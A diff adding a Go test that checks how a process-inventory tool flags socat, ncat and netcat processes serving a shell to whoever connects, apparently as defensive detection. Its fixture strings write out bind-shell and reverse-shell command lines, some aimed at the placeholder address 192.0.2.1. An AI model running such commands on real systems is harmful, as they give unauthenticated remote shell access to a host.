@@ -314,3 +314,26 @@ func TestCertificatesOfEtcd(t *testing.T) {
 		}
 	}
 }
+
+// TestShellsForWhoConnects: what socat, ncat and netcat start for whom connects is a shell if it is told nothing to run.
+func TestShellsForWhoConnects(t *testing.T) {
+	for line, want := range map[string]string{
+		"socat|TCP-LISTEN:7777,reuseaddr,fork|EXEC:/bin/sh": "none", "socat|-d|tcp-l:7777,fork|exec:bash -li,pty,stderr": "none", "socat|exec:sh|tcp4-listen:7777": "none",
+		"socat|tcp-listen:7777,fork|system:sh /opt/x.sh": "", "socat|tcp-listen:7777|exec:cat": "", "socat|tcp:192.0.2.1:7777|exec:sh": "", "socat|-V": "",
+		"socat|tcp-listen:7777,range=10.0.0.0/8|exec:sh": "unknown", "ncat|-lk|7777|-e|/bin/bash": "none", "ncat|-l|--keep-open|--sh-exec|/bin/bash -i|7777": "none",
+		"ncat|-lk|7777|--allow|10.0.0.1|-e|/bin/bash": "unknown", "ncat|-lk|7777|-e|/bin/cat": "", "ncat|192.0.2.1|7777|-e|/bin/bash": "",
+		"nc.traditional|-lp7777|-c|exec sh": "none", "nc.traditional|-l|-p|7777|-c|sh -c id": "", "nc.traditional|-l|-p|7777": "",
+	} {
+		argv := strings.Split(line, "|")
+		p := &process{argv: argv}
+		p.PID, p.Exe = 77, "/usr/bin/"+argv[0]
+		got := ""
+		if v, ok := managed(p); ok && v.Role == snapshot.RoleShell {
+			f := settingsOf[v.Name](nil, p)["login"]
+			got = map[bool]string{true: f.Value, false: "unknown"}[f.State == snapshot.Present]
+		}
+		if got != want {
+			t.Errorf("%s: %q, want %q", line, got, want)
+		}
+	}
+}
